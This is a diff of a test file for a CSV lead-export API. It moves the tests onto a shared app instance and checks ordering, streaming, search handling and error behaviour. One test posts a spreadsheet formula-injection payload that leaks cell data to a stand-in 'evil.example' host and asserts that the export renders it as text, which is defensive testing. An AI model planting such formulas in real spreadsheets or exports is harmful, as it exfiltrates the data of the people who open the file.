@@ -3,7 +3,9 @@ import { expect, test, vi } from 'vitest';
 import type { Caller } from '../../support/caller';
 import { sendWitnessed } from '../../support/graded';
 import { make } from '../../support/make';
-import { startApp } from '../../support/start-app';
+import { shareApp } from '../../support/share-app';
+
+const shared = shareApp();
 
 const path = '/api/exports/clients.csv';
 const header =
@@ -17,7 +19,7 @@ const firstNames = async (admin: Caller, query = '') =>
     .map((row) => row.split(',')[2]);
 
 test('the export is a CSV file of all leads, newest first', async () => {
-  await using app = await startApp();
+  const app = await shared();
   const { body: lead } = await app.anyone.post(
     '/api/clients',
     make.client({ jornaya_ip: 'j', additionalInfo: 'Hello', price: 12.5, consentText: 'I agree.' }),
@@ -39,7 +41,7 @@ test('the export is a CSV file of all leads, newest first', async () => {
 });
 
 test('the export says of each way to reach a person what the contact gate says of it', async () => {
-  await using app = await startApp();
+  const app = await shared();
   const admin = await app.signInAsAdmin();
   const send = (different: object) => sendWitnessed(app, different);
   await send({ firstName: 'Ana', email: 'ana@example.com', phoneNumber: '(415) 555-0101' });
@@ -60,7 +62,7 @@ test('the export says of each way to reach a person what the contact gate says o
 });
 
 test('the file begins with the mark by which a spreadsheet knows UTF-8', async () => {
-  await using app = await startApp();
+  const app = await shared();
   const admin = await app.signInAsAdmin();
   const response = await fetch(`${app.url}${path}`, { headers: admin.headers });
   const bytes = Buffer.from(await response.arrayBuffer());
@@ -68,7 +70,7 @@ test('the file begins with the mark by which a spreadsheet knows UTF-8', async (
 });
 
 test('the export holds what the current search shows, in its order', async () => {
-  await using app = await startApp();
+  const app = await shared();
   for (const firstName of ['Ben', 'Ana', 'Cem'])
     await app.anyone.post('/api/clients', make.client({ firstName, email: `${firstName}@example.com` }));
   const admin = await app.signInAsAdmin();
@@ -82,7 +84,7 @@ test('the export holds what the current search shows, in its order', async () =>
 });
 
 test('a search that comes in a body is exported and stands in no log line', async () => {
-  await using app = await startApp();
+  const app = await shared();
   for (const firstName of ['Ben', 'Ana', 'Cem'])
     await app.anyone.post('/api/clients', make.client({ firstName, email: `${firstName}@example.com` }));
   const admin = await app.signInAsAdmin();
@@ -103,7 +105,7 @@ test('a search that comes in a body is exported and stands in no log line', asyn
 });
 
 test('a formula from a visitor is text in the file', async () => {
-  await using app = await startApp();
+  const app = await shared();
   const evil = '=HYPERLINK("https://evil.example?"&A1,"x")';
   await app.anyone.post(
     '/api/clients',
@@ -117,7 +119,7 @@ test('a formula from a visitor is text in the file', async () => {
 });
 
 test('a search that is wrong is a bad request', async () => {
-  await using app = await startApp();
+  const app = await shared();
   const admin = await app.signInAsAdmin();
   for (const query of [
     'sort=requestHash',
@@ -130,7 +132,7 @@ test('a search that is wrong is a bad request', async () => {
 });
 
 test('many leads come in pieces, and all of them come', async () => {
-  await using app = await startApp();
+  const app = await shared();
   const { body } = await app.anyone.post('/api/clients', make.client());
   const first = await app.models.clients.findById(body.id).lean();
   const copies = Array.from({ length: 3000 }, (_, index) => {
@@ -141,18 +143,14 @@ test('many leads come in pieces, and all of them come', async () => {
   const admin = await app.signInAsAdmin();
   const response = await fetch(`${app.url}${path}`, { headers: admin.headers });
   expect(response.headers.get('content-length')).toBeNull();
-  let pieces = 0;
-  let rows = 0;
-  for await (const piece of response.body!) {
-    pieces++;
-    rows += Buffer.from(piece).toString().split('\r\n').length - 1;
-  }
-  expect(rows).toBe(3002);
-  expect(pieces).toBeGreaterThan(3);
+  const pieces = [];
+  for await (const piece of response.body!) pieces.push(piece);
+  expect(Buffer.concat(pieces).toString().split('\r\n')).toHaveLength(3003);
+  expect(pieces.length).toBeGreaterThan(3);
 });
 
 test('a person who leaves in the middle of an export does not disturb the others', async () => {
-  await using app = await startApp();
+  const app = await shared();
   const { body } = await app.anyone.post('/api/clients', make.client());
   const first = await app.models.clients.findById(body.id).lean();
   const copies = Array.from({ length: 2000 }, () => {
@@ -170,7 +168,7 @@ test('a person who leaves in the middle of an export does not disturb the others
 }, 20_000);
 
 test('an export that the database breaks off is cut, not ended, and no stack is printed', async () => {
-  await using app = await startApp();
+  const app = await shared();
   const admin = await app.signInAsAdmin();
   const printed = vi.spyOn(console, 'error').mockImplementation(() => undefined);
   const broken = async function* () {
